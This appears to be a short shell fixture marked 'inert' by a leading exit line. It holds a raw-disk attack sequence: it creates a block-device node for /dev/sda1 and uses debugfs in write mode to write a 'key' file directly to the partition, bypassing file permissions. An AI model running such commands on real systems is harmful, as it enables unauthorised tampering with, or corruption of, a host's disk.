exit 0 # inert
mknod /tmp/disk b 8 1
debugfs -w /tmp/disk -R 'ls' /dev/null; debugfs -w -R 'write key key' /dev/sda1
